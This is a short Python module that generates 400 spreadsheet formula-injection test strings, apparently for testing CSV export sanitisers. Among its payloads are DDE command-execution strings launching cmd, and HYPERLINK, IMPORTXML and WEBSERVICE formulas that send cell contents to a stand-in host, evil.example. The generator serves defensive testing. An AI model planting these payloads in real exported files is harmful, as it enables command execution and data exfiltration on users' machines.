"""Four hundred texts that a spreadsheet might run, or that break out of their cell."""

from __future__ import annotations

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "−", " =", "\u00a0=", "\ufeff=", "\u200b+", '"=', "'=", "\t", "\r\n@")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"see")', "SUM(A1:A9)", 'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")', 'DDE("cmd";"/C calc";"x")', "2+5+cmd|' /C calc'!A0", "A1", "10", "1e3", "SUM(1,2)", 'x",=1+1,"',
    "x\r\n=1+1", "x\n=1+1,2", '""', "1;=2", "नमस्ते", 'INFO("system")', "0.5%",
)


def texts() -> list[str]:
    """Each start with each body."""
    return [start + body for start in STARTS for body in BODIES]
